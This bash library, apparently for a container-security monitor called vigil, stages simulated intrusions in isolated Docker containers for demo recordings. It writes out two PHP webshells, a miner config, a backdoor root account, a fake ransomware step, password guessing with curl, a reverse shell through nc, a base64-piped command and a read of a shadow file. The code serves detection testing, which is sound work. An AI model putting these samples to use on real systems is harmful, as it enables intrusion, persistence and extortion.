# shellcheck shell=bash
# The steps scripts/record-web-demo.sh, scripts/record-escape-demo.sh and
# scripts/record-incident-demo.sh share, as functions those scripts source (from the repository's
# root). What differs between the demos (container names, ports, paths) is passed in; each script
# keeps its own cleanup, timing and vigil invocation.

# demo_build_shop_image IMAGE ROOT: imports the shop image, built in the scratch folder ROOT
# (removed afterwards): busybox with account files, a web root and its configuration.
demo_build_shop_image() {
  local image=$1 root=$2 a i
  mkdir -p "$root/bin" "$root/etc" "$root/tmp" "$root/var/www/html" "$root/app/config" "$root/data"
  cp /usr/bin/busybox "$root/bin/"
  for a in $(busybox --list); do [ "$a" = busybox ] || ln -s busybox "$root/bin/$a"; done
  printf 'root:x:0:0:root:/root:/bin/sh\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n' > "$root/etc/passwd"
  printf 'root:*:19000:0:99999:7:::\nwww-data:*:19000:0:99999:7:::\n' > "$root/etc/shadow"
  printf 'root:x:0:\nwww-data:x:33:\n' > "$root/etc/group"
  printf '<?php require __DIR__ . "/../app/bootstrap.php"; ?>\n' > "$root/var/www/html/index.php"
  printf 'db: postgres://shop@db/shop\n' > "$root/app/config/app.yaml"
  for i in $(seq 1 24); do printf 'invoice %s: 3 items, 149.00 EUR\n' "$i" > "$root/data/invoice-$i.csv"; done
  tar -C "$root" -c . | docker import -c 'ENV PATH=/bin' - "$image" >/dev/null
  rm -rf "$root"
}

# demo_start_nginx WORK PORT ACCESS_LOG: a real nginx with basic auth (admin / correct-horse) on
# 127.0.0.1:PORT, its files and pid ($WORK/nginx.pid) in WORK, logging requests to ACCESS_LOG
# (emptied first).
demo_start_nginx() {
  local work=$1 port=$2 access_log=$3
  printf 'admin:%s\n' "$(openssl passwd -apr1 'correct-horse')" > "$work/htpasswd"
  mkdir -p "$work/www" && echo ok > "$work/www/index.html"
  cat > "$work/nginx.conf" <<EOF
user root;
worker_processes 1;
pid $work/nginx.pid;
error_log $work/nginx-error.log;
events { worker_connections 64; }
http {
  access_log $access_log combined;
  client_body_temp_path $work/body; proxy_temp_path $work/proxy; fastcgi_temp_path $work/fcgi;
  uwsgi_temp_path $work/uwsgi; scgi_temp_path $work/scgi;
  server {
    listen 127.0.0.1:$port;
    location / { auth_basic "admin"; auth_basic_user_file $work/htpasswd; root $work/www; }
  }
}
EOF
  : > "$access_log"
  nginx -p "$work" -e "$work/nginx-error.log" -c "$work/nginx.conf"
}

# demo_start_shop_and_blog SHOP BLOG IMAGE: the shop and blog containers (no network), the shop
# already holding a webshell (for vigil's start-up scan to find).
demo_start_shop_and_blog() {
  local shop=$1 blog=$2 image=$3
  docker run -d --name "$shop" --network none "$image" sleep 300 >/dev/null
  docker run -d --name "$blog" --network none "$image" sleep 300 >/dev/null
  docker exec -i "$shop" sh -c 'mkdir -p /var/www/html/uploads && cat > /var/www/html/uploads/.thumb.php' <<'EOF'
<?php $k = 'as'.'sert'; $k(base64_decode($_POST['img'])); ?>
EOF
}

# demo_brute_force PORT: the intruder guesses the admin password of the site on 127.0.0.1:PORT,
# and gets it.
demo_brute_force() {
  local port=$1 pw
  for pw in admin 123456 password shop2024 letmein qwerty; do curl -s -o /dev/null -u "admin:$pw" "http://127.0.0.1:$port/"; done
  curl -s -o /dev/null -u 'admin:correct-horse' "http://127.0.0.1:$port/"
}

# demo_shop_intrusion SHOP: inside the shop, a webshell, a miner with its configuration, a
# backdoor account, a changed config; then ransomware: every invoice encrypted in place and
# renamed, then the note.
demo_shop_intrusion() {
  local shop=$1
  docker exec -i "$shop" sh -c 'cat > /var/www/html/uploads/avatar.php' <<'EOF'
<?php if (isset($_REQUEST['c'])) { echo '<pre>'; passthru($_REQUEST['c']); echo '</pre>'; } ?>
EOF
  docker exec -i "$shop" sh -c 'mkdir -p /tmp/.X11-cache && cat > /tmp/.X11-cache/config.json' <<'EOF'
{ "autosave": true, "donate-level": 1, "cpu": { "enabled": true, "max-threads-hint": 75 },
  "pools": [ { "url": "stratum+tcp://pool.example.net:3333", "user": "44AFFq5kSiGBoZ", "pass": "x" } ] }
EOF
  docker exec -i "$shop" sh -c 'cat >> /etc/passwd' <<'EOF'
sysadm:x:0:0::/root:/bin/sh
EOF
  docker exec "$shop" sh -c 'echo "db: postgres://shop:exfil@203.0.113.50/shop" > /app/config/app.yaml'
  sleep 2
  docker exec "$shop" sh -c 'for f in /data/*.csv; do head -c 2048 /dev/urandom > "$f" && mv "$f" "$f.crypt"; done; echo "YOUR FILES ARE ENCRYPTED. Send 0.1 BTC to recover them." > /data/HOW_TO_DECRYPT.txt'
}

# demo_blog_routine BLOG: a framework deploy and a log rotation, which must stay quiet.
demo_blog_routine() {
  local blog=$1
  docker exec "$blog" sh -c 'mkdir -p /var/www/html/vendor/composer && for i in $(seq 1 30); do printf "<?php\nnamespace App;\nfinal class Page%s { public function title(): string { return \"page %s\"; } }\n" $i $i > /var/www/html/vendor/composer/Page$i.php; done'
  docker exec "$blog" sh -c 'mkdir -p /var/log/blog && for n in 1 2 3; do echo "GET /post/$n 200" >> /var/log/blog/access.log; mv /var/log/blog/access.log /var/log/blog/access.log.$n; gzip /var/log/blog/access.log.$n; done'
}

# demo_callback_peer PORT SECONDS: a peer for a reverse shell to call back to on PORT (loopback
# only): it types one command and leaves; gives up after SECONDS. Run it in the background.
demo_callback_peer() {
  local port=$1 seconds=$2
  printf 'id\nsleep 3\nexit\n' | timeout "$seconds" busybox nc -l -p "$port" >/dev/null 2>&1
}

# demo_escape WORKER WEB IMAGE PORT: a benign worker, and the compromised web container (the
# Docker socket mounted, SYS_ADMIN granted, the host's /etc at /host-etc); then the intruder in
# it: a reverse shell to 127.0.0.1:PORT, reconnaissance, a payload, an escape attempt, persistence.
demo_escape() {
  local worker=$1 web=$2 image=$3 port=$4
  docker run -d --name "$worker" --network none "$image" sh -c 'while true; do ls / >/dev/null; sleep 2; done' >/dev/null
  docker run -d --name "$web" --network host --cap-add SYS_ADMIN -v /var/run/docker.sock:/var/run/docker.sock \
    -v /etc:/host-etc:ro "$image" sleep 300 >/dev/null
  sleep 2
  docker exec -d "$web" sh -c "nc 127.0.0.1 $port -e sh"
  sleep 5
  docker exec "$web" sh -c 'echo Y2F0IC9ob3N0LWV0Yy9ob3N0bmFtZQo= | base64 -d | sh' >/dev/null
  docker exec "$web" sh -c 'cat /host-etc/shadow >/dev/null'
  docker exec "$web" sh -c 'unshare -m true' || true
  docker exec "$web" sh -c 'mkdir -p /tmp/.x && cp /bin/busybox /tmp/.x/xmrig && /tmp/.x/xmrig true' || true
  docker exec "$web" sh -c 'chmod 4755 /bin/busybox' || true
}

# demo_dockerd_blip PROXY_PID: vigil loses dockerd for two seconds (scripts/docker-proxy.mjs,
# running as PROXY_PID, pauses and resumes on SIGUSR2), then reconnects and resynchronises.
demo_dockerd_blip() {
  local proxy=$1
  kill -USR2 "$proxy"; sleep 2; kill -USR2 "$proxy"
}
